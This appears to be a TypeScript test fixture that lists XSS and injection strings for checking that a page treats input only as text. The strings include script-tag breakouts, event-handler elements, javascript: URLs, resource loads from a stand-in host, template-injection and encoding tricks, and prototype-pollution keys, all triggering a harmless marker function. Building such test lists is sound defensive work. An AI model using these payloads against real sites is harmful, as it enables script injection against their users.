/** Texts that a page would run, load or be changed by, if they reached it as anything but text. Running one calls `pwned()`. */

const run = 'pwned()';

export const markup: readonly string[] = [
  // Scripts, and ends of what stands around the data
  ...[
    `<script>${run}</script>`,
    `</script><script>${run}</script>`,
    `</SCRIPT ><script>${run}//`,
    `<!--<script>${run}</script>`,
  ],
  ...[
    `--><script>${run}</script>`,
    `]]><script>${run}</script>`,
    `</style><script>${run}</script>`,
    `</title><script>${run}</script>`,
  ],
  ...[
    `</textarea><script>${run}</script>`,
    `</template><script>${run}</script>`,
    `</noscript><script>${run}</script>`,
  ],
  ...[
    `<script src="https://x.example/a.js"></script>`,
    `<script src=//x.example></script>`,
    `<scr<script>ipt>${run}</script>`,
  ],
  ...[
    `<script type="module">${run}</script>`,
    `<script type="application/json" class="rows">[]</script>`,
    `<!--<script>`,
    `<!--`,
  ],
  // Elements with handlers
  ...[
    `<img src=x onerror=${run}>`,
    `<img src="https://x.example/a.png">`,
    `<svg onload=${run}>`,
    `<svg><script>${run}</script></svg>`,
  ],
  ...[
    `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
    `<svg><a href="javascript:${run}"><text y=9>x</text></a></svg>`,
  ],
  ...[
    `<body onload=${run}>`,
    `<details open ontoggle=${run}>`,
    `<video src=x onerror=${run}>`,
    `<audio src=x onerror=${run}>`,
  ],
  ...[
    `<input autofocus onfocus=${run}>`,
    `<select autofocus onfocus=${run}>`,
    `<marquee onstart=${run}>`,
    `<div onmouseover=${run}>x</div>`,
  ],
  ...[
    `<style>@import "https://x.example/a.css"</style>`,
    `<style>*{background:url(https://x.example/a)}</style>`,
  ],
  ...[
    `<div style="background:url(https://x.example/a)">`,
    `<div style="width:expression(${run})">`,
    `<link rel=stylesheet href=https://x.example>`,
  ],
  ...[
    `<link rel=prefetch href=https://x.example>`,
    `<meta http-equiv=refresh content="0;url=https://x.example">`,
  ],
  ...[
    `<meta http-equiv="Content-Security-Policy" content="default-src *">`,
    `<base href="https://x.example/">`,
  ],
  ...[
    `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
    `<iframe src="javascript:parent.${run}"></iframe>`,
  ],
  ...[
    `<object data="javascript:${run}">`,
    `<embed src="https://x.example">`,
    `<form action="https://x.example"><button>x`,
  ],
  ...[
    `<template><script>${run}</script></template>`,
    `<math><mtext><img src=x onerror=${run}></mtext></math>`,
    `<portal src=https://x.example>`,
  ],
  ...[
    `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
    `<table><tr><td><img src=x onerror=${run}>`,
    `<a href="javascript:${run}">x</a>`,
  ],
  // Out of an attribute, a string, a pattern
  ...[
    `" onmouseover="${run}" x="`,
    `' onclick='${run}' x='`,
    '` onerror=`pwned()`',
    `"><img src=x onerror=${run}>`,
    `";${run};//`,
    `';${run};//`,
  ],
  ...[
    `\\";${run};//`,
    `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
    `\${${run}}`,
    `{{${run}}}`,
    `{{constructor.constructor('${run}')()}}`,
  ],
  ...[
    `<%= ${run} %>`,
    `[[${run}]]`,
    `$&$1$\``,
    `%3Cscript%3E${run}%3C/script%3E`,
    `javascript:${run}`,
    `data:text/html,<script>${run}</script>`,
  ],
  // Entities, odd letters, names that objects have
  ...[
    `&lt;img src=x onerror=${run}&gt;`,
    `&#60;script&#62;${run}`,
    `&amp;lt;b&amp;gt;`,
    `&quot;&apos;&nbsp;`,
    `\uff1cscript\uff1e${run}`,
  ],
  ...[
    `\u2028${run}//`,
    `\u2029${run}`,
    `+ADw-script+AD4-${run}`,
    `<\u0001script>${run}`,
    `<img\u000bsrc=x onerror=${run}>`,
    `\ufeff<script>${run}</script>`,
  ],
  ...[
    '__proto__',
    'constructor',
    '{"__proto__":{"pwned":true}}',
    'toString',
    '<b>bold</b>',
    '<xss id=facts>',
    '<p id=rows name=rows>',
  ],
];
